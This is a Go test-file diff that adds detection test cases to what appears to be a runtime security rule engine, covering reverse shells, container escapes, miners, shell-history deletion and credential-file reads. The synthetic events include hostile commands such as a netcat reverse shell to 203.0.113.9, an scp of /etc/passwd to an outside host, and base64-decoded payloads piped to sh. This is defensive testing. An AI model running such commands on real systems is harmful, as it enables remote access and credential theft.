@@ -170,7 +170,108 @@ func defaultCases() []defaultCase {
 			[]*event.Event{openEvent(proc("bash"), "/etc/cron.d/evil", oWRONLY|oCREAT), openEvent(proc("crontab"), "/var/spool/cron/crontabs/root", oWRONLY|oCREAT),
 				execEvent(proc("crontab", "/tmp/jobs"))},
 			[]*event.Event{execEvent(proc("crontab", "-l")), openEvent(proc("cron"), "/etc/crontab", oRDONLY), openEvent(proc("dpkg"), "/etc/cron.daily/x", oWRONLY)}},
+		{"Linux Kernel Module Injection Detected",
+			[]*event.Event{syscallEvent(event.FinitModule, inContainer(proc("insmod")), 3, 0), failed(syscallEvent(event.InitModule, inContainer(proc("x")), 100), 1)},
+			[]*event.Event{syscallEvent(event.FinitModule, proc("insmod"), 3, 0)}},
+		{"Redirect STDOUT/STDIN to Network Connection in Container",
+			[]*event.Event{dupEvent(event.Dup2, inContainer(proc("bash")), event.FDIPv4, 3, 0)},
+			[]*event.Event{dupEvent(event.Dup2, proc("bash"), event.FDIPv4, 3, 0), dupEvent(event.Dup2, inContainer(proc("bash")), event.FDFile, 3, 1)}},
+		{"Netcat Remote Code Execution in Container",
+			[]*event.Event{execEvent(inContainer(proc("nc", "-e", "/bin/sh", "203.0.113.9", "4444"))),
+				execEvent(inContainer(withExe(proc("exe", "-e", "/bin/sh", "203.0.113.9", "4444"), "/usr/bin/nc")))},
+			[]*event.Event{execEvent(proc("nc", "-e", "/bin/sh", "203.0.113.9", "4444")), execEvent(inContainer(proc("nc", "-l", "-p", "80")))}},
+		{"Directory traversal monitored file read",
+			[]*event.Event{openEvent(proc("php-fpm"), "/var/www/html/../../../etc/shadow", oRDONLY),
+				failed(openEvent(proc("node"), "/srv/app/static/../../../../root/.ssh/id_rsa", oRDONLY), 2)},
+			[]*event.Event{openEvent(proc("php-fpm"), "/var/www/html/../index.php", oRDONLY), openEvent(proc("bash"), "../../etc/shadow", oRDONLY),
+				openEvent(proc("cat"), "/etc/shadow", oRDONLY)}},
+		{"Read sensitive file trusted after startup",
+			[]*event.Event{openEvent(runningFor(proc("nginx"), 60), "/etc/shadow", oRDONLY), openEvent(runningFor(inContainer(proc("mysqld")), 6), "/etc/sudoers", oRDONLY)},
+			[]*event.Event{openEvent(runningFor(proc("sshd"), 60), "/etc/shadow", oRDONLY), openEvent(runningFor(proc("nginx"), 60), "/etc/nginx/nginx.conf", oRDONLY),
+				// during its first five seconds: start-up, not a worker
+				openEvent(runningFor(proc("nginx"), 2), "/etc/shadow", oRDONLY)}},
+		{"Run shell untrusted",
+			[]*event.Event{execEvent(withParent(proc("sh", "-c", "id"), "nginx")), execEvent(withParent(proc("bash"), "php-fpm"))},
+			[]*event.Event{execEvent(withParent(proc("sh", "-c", "id"), "bash")), execEvent(withParent(proc("python3"), "nginx"))}},
+		{"System user interactive",
+			[]*event.Event{execEvent(withParent(func() *event.Process { p := proc("sh"); p.User = "www-data"; return p }(), "sshd")),
+				execEvent(withTTY(func() *event.Process { p := proc("id"); p.User = "daemon"; return p }()))},
+			[]*event.Event{execEvent(withParent(func() *event.Process { p := proc("sh"); p.User = "alice"; return p }(), "sshd")),
+				execEvent(func() *event.Process { p := proc("php-fpm"); p.User = "www-data"; return p }())}},
+		{"Debugfs Launched in Privileged Container",
+			[]*event.Event{execEvent(privileged(proc("debugfs", "/dev/sda1")))},
+			[]*event.Event{execEvent(inContainer(proc("debugfs", "/dev/sda1"))), execEvent(proc("debugfs", "/dev/sda1"))}},
+		{"Mount Launched in Privileged Container",
+			[]*event.Event{execEvent(privileged(proc("mount", "/dev/sda1", "/mnt")))},
+			[]*event.Event{execEvent(privileged(proc("mount"))), execEvent(inContainer(proc("mount", "/dev/sda1", "/mnt")))}},
+		{"Detect release_agent File Container Escapes",
+			[]*event.Event{openEvent(inContainer(proc("sh")), "/tmp/cg/release_agent", oWRONLY|oTRUNC)},
+			[]*event.Event{openEvent(inContainer(proc("cat")), "/tmp/cg/release_agent", oRDONLY), openEvent(proc("systemd"), "/sys/fs/cgroup/x/release_agent", oWRONLY)}},
+		{"Adding ssh keys to authorized_keys",
+			[]*event.Event{openEvent(proc("bash"), "/root/.ssh/authorized_keys", oWRONLY|0o2000), openEvent(proc("python3"), "/home/bob/.ssh/authorized_keys", oWRONLY|oCREAT)},
+			[]*event.Event{openEvent(proc("sshd"), "/root/.ssh/authorized_keys", oRDONLY), openEvent(proc("ssh-copy-id"), "/home/bob/.ssh/authorized_keys", oWRONLY)}},
+		{"Delete or rename shell history",
+			[]*event.Event{pathEvent(event.Unlinkat, proc("rm"), "/root/.bash_history", "", -100, 0), pathEvent(event.Renameat2, proc("mv"), "/home/a/.zsh_history", "/tmp/x", -100, -100, 0),
+				openEvent(proc("cp"), "/root/.bash_history", oWRONLY|oTRUNC)},
+			[]*event.Event{openEvent(proc("bash"), "/root/.bash_history", oWRONLY|oTRUNC), pathEvent(event.Unlinkat, proc("rm"), "/root/notes", "", -100, 0)}},
+		{"Container Drift Detected (chmod)",
+			[]*event.Event{pathEvent(event.Chmod, inContainer(proc("chmod")), "/tmp/x", "", 0o755)},
+			[]*event.Event{pathEvent(event.Chmod, inContainer(proc("chmod")), "/tmp/x", "", 0o644), pathEvent(event.Chmod, proc("chmod"), "/tmp/x", "", 0o755)}},
+		{"Container Drift Detected (open+create)",
+			[]*event.Event{openMode(inContainer(proc("curl")), "/tmp/x", oWRONLY|oCREAT, 0o755), openMode(inContainer(proc("cp")), "/tmp/y", oWRONLY|oCREAT, 0o700)},
+			[]*event.Event{openMode(inContainer(proc("curl")), "/tmp/x", oWRONLY|oCREAT, 0o644), openMode(inContainer(proc("link")), "/tmp/go-build1/a.out", oWRONLY|oCREAT, 0o777),
+				openMode(proc("curl"), "/tmp/x", oWRONLY|oCREAT, 0o755)}},
+		{"Launch Package Management Process in Container",
+			[]*event.Event{execEvent(inContainer(proc("apt-get", "install", "curl")))},
+			[]*event.Event{execEvent(proc("apt-get", "install", "curl")), execEvent(withParent(inContainer(proc("dpkg")), "apt-get"))}},
+		{"Launch Remote File Copy Tools in Container",
+			[]*event.Event{execEvent(inContainer(proc("scp", "/etc/passwd", "x@203.0.113.9:")))},
+			[]*event.Event{execEvent(proc("scp", "/etc/passwd", "x@203.0.113.9:"))}},
+		{"Detect outbound connections to common miner pool ports",
+			[]*event.Event{connectEvent(inContainer(proc("x")), ip4(203, 0, 113, 9), 3333), connectEvent(proc("xmrig"), ip4(10, 0, 0, 9), 443)},
+			[]*event.Event{connectEvent(proc("x"), ip4(10, 0, 0, 9), 3333), connectEvent(proc("curl"), ip4(203, 0, 113, 9), 443)}},
+		{"Detect crypto miners using the Stratum protocol",
+			[]*event.Event{execEvent(proc("x", "-o", "stratum+tcp://pool.example:3333")), execEvent(proc("xmrig"))},
+			[]*event.Event{execEvent(proc("curl", "-o", "out", "https://example.com"))}},
+		{"Decoding Payload in Container",
+			[]*event.Event{execEvent(inContainer(func() *event.Process {
+				p := proc("sh")
+				p.Parent = &event.Process{PID: 9, Name: "sh", Args: []string{"-c", "echo aWQK | base64 -d | sh"}}
+				return p
+			}()))},
+			[]*event.Event{execEvent(inContainer(proc("sh", "-c", "ls")))}},
+		{"Base64-decoded payload executed",
+			[]*event.Event{execEvent(proc("bash", "-c", "eval $(echo aWQK | base64 --decode)"))},
+			[]*event.Event{execEvent(proc("base64", "-d", "file")), execEvent(inContainer(proc("bash", "-c", "echo x | base64 -d | sh")))}},
+		{"Write below root",
+			[]*event.Event{openEvent(proc("curl"), "/.x", oWRONLY|oCREAT)},
+			[]*event.Event{openEvent(proc("curl"), "/tmp/x", oWRONLY|oCREAT), openEvent(proc("dpkg"), "/x", oWRONLY|oCREAT), openEvent(proc("cat"), "/x", oRDONLY)}},
+		{"Write below monitored dir",
+			[]*event.Event{openEvent(proc("curl"), "/usr/lib/x86_64-linux-gnu/libc.so.6", oWRONLY), openEvent(proc("sh"), "/boot/grub/grub.cfg", oWRONLY)},
+			[]*event.Event{openEvent(proc("dpkg"), "/usr/lib/x/y.so", oWRONLY|oCREAT), openEvent(proc("ldconfig"), "/usr/lib/x", oWRONLY)}},
+		{"User mgmt binaries",
+			[]*event.Event{execEvent(withParent(proc("useradd", "-m", "eve"), "bash")), execEvent(withParent(inContainer(proc("passwd", "root")), "sh"))},
+			[]*event.Event{execEvent(proc("passwd", "-S", "root")), execEvent(withParent(proc("useradd", "-r", "svc"), "dpkg"))}},
+		{"Process memory read by another program",
+			[]*event.Event{openEvent(proc("python3"), "/proc/812/mem", oRDONLY)},
+			[]*event.Event{openEvent(proc("gdb"), "/proc/812/mem", oRDONLY), openEvent(proc("python3"), "/proc/812/maps", oRDONLY),
+				failed(openEvent(proc("python3"), "/proc/812/mem", oRDONLY), 13)}},
+		{"Launch Suspicious Network Tool in Container",
+			[]*event.Event{execEvent(inContainer(proc("nmap", "-sS", "10.0.0.0/24"))), execEvent(inContainer(withExe(proc("exe"), "socat")))},
+			[]*event.Event{execEvent(inContainer(proc("curl", "http://x"))), execEvent(proc("nmap", "10.0.0.1"))}},
+		{"Launch Suspicious Network Tool on Host",
+			[]*event.Event{execEvent(withParent(proc("nmap", "-sS", "10.0.0.0/24"), "python3"))},
+			[]*event.Event{execEvent(withTTY(proc("nmap", "10.0.0.1"))), execEvent(withParent(proc("tcpdump", "-i", "eth0"), "cron")),
+				execEvent(inContainer(proc("nmap", "10.0.0.1")))}},
+		{"Modify Shell Configuration File",
+			[]*event.Event{openEvent(proc("bash"), "/root/.bashrc", oWRONLY|0o2000), openEvent(inContainer(proc("sh")), "/etc/profile.d/x.sh", oWRONLY|oCREAT)},
+			[]*event.Event{openEvent(proc("bash"), "/root/.bashrc", oRDONLY), openEvent(withParent(proc("cp"), "dpkg"), "/etc/bash.bashrc", oWRONLY)}},
 	}
+}
+
+func privileged(p *event.Process) *event.Process {
+	inContainer(p).Container.Privileged = true
+	return p
 }
 
 // TestDefaultRules feeds every default rule events that must and must not
@@ -296,4 +397,11 @@ func TestDefaultRulesBenign(t *testing.T) {
 			t.Errorf("benign event %d (%s by %s) fired %v", i, ev.Type, ev.Proc.Name, got)
 		}
 	}
+}
+
+// runningFor makes p a process started secs seconds before the helpers'
+// event time.
+func runningFor(p *event.Process, secs int64) *event.Process {
+	p.StartTime = 1764180000123456789 - secs*1_000_000_000
+	return p
 }
